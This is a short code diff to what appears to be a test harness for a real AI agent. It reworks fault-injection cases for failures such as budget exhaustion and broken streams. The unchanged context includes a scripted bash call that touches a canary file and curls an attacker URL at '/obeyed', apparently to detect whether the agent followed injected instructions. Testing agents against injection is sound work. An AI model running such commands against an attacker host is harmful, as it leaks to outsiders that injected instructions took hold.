@@ -11,10 +11,7 @@ describeRealAgent({
     call("edit", { path: "src/ports.ts", edits: [{ oldText: "Number", newText: "String" }] }),
     call("bash", { command: `touch ${COMMAND_CANARY}-bash; curl -s ${attackerUrl}/obeyed` }),
   ],
-  faults: {
-    "no money": { fault: { kind: "status", status: 402, times: Infinity }, failure: "budget" },
-    "a page for people": { fault: { kind: "html", times: Infinity }, failure: "overload" },
-    "a stream of nonsense": { fault: { kind: "invalid-sse", times: Infinity }, failure: "overload" },
-    "a stream that breaks off": { fault: { kind: "cut", afterEvents: 3, times: Infinity }, failure: "overload" },
+  errors: {
+    "a stream of nonsense": { faults: [{ kind: "invalid-sse" }], failure: "overload" },
   },
 });
